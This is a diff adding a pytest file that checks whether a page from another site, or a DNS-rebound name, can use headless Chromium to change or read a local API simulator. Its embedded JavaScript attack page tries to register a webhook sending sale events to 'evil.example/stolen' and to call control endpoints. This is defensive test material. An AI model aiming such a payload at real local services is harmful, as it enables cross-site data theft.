@@ -1,0 +1,110 @@
+"""Real pages in a real browser: what a site that the user merely visits can do to a simulator."""
+
+import shutil
+import subprocess
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from tests.api.simulation import Simulation, simulation
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt-get install chromium")
+
+_PAGE = """<!doctype html><title>tries</title><script>
+const webhook = {event: "SaleCreated", url: "http://evil.example/stolen"};
+const tries = [
+  ["POST", "/api/Webhooks", webhook], ["POST", "/_sim/trigger", {event: "SaleCreated"}], ["POST", "/_sim/reset", {}],
+  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"],
+];
+(async () => {
+  const seen = [];
+  for (const [method, path, body] of tries) {
+    for (const mode of ["cors", "no-cors"]) {
+      try {
+        const headers = mode == "cors" ? {"x-api-key": "k"} : {};
+        const answer = await fetch("TARGET" + path, {method, mode, headers, body: body && JSON.stringify(body)});
+        seen.push(answer.status);
+      } catch (error) { seen.push("blocked"); }
+    }
+  }
+  document.body.append("done " + seen.join(" "));
+})();
+</script><body></body>"""
+
+
+class Site:
+    """A web site on loopback that serves one page."""
+
+    def __init__(self, page: str) -> None:
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                body = page.encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *_: object) -> None:
+                pass
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self._server.server_address[1]
+        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
+        self._thread.start()
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+        self._thread.join()
+
+
+def dom(url: str, folder: Path) -> str:
+    """What Chromium shows of a page, with evil.example pointed at this machine."""
+    assert CHROMIUM is not None
+    command = [
+        CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
+        "--host-resolver-rules=MAP evil.example 127.0.0.1", "--no-proxy-server", f"--user-data-dir={folder}",
+        "--timeout=15000", "--dump-dom", url,
+    ]  # fmt: skip
+    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False).stdout
+
+
+@pytest.fixture(params=["127.0.0.1", "0.0.0.0"])
+def sim(request: pytest.FixtureRequest) -> Iterator[Simulation]:
+    token = "s3cret" if request.param == "0.0.0.0" else ""
+    with simulation(host=request.param, token=token) as running:
+        running.http.headers["Authorization"] = "Bearer s3cret"
+        yield running
+
+
+def test_a_page_of_another_site(sim: Simulation, tmp_path: Path):
+    """It changes nothing and reads nothing, with or without CORS."""
+    before = state(sim)
+    site = Site(_PAGE.replace("TARGET", f"http://127.0.0.1:{sim.port}"))
+    try:
+        shown = dom(f"http://127.0.0.1:{site.port}/", tmp_path)
+    finally:
+        site.close()
+    assert "done" in shown
+    assert "200" not in shown
+    assert "202" not in shown
+    assert before == state(sim)
+
+
+def test_a_name_that_is_rebound(sim: Simulation, tmp_path: Path):
+    """The browser takes us for a part of the page's own site; we do not: the page is not even served."""
+    before = state(sim)
+    shown = dom(f"http://evil.example:{sim.port}/api/Webhooks", tmp_path)
+    assert "--allow-host" in shown
+    assert before == state(sim)
+
+
+def state(sim: Simulation) -> object:
+    """Everything that a page could have changed."""
+    url = f"http://127.0.0.1:{sim.port}"
+    return [sim.http.get(f"{url}/{path}").json() for path in ("_sim/stats", "api/Webhooks", "_sim/faults")]
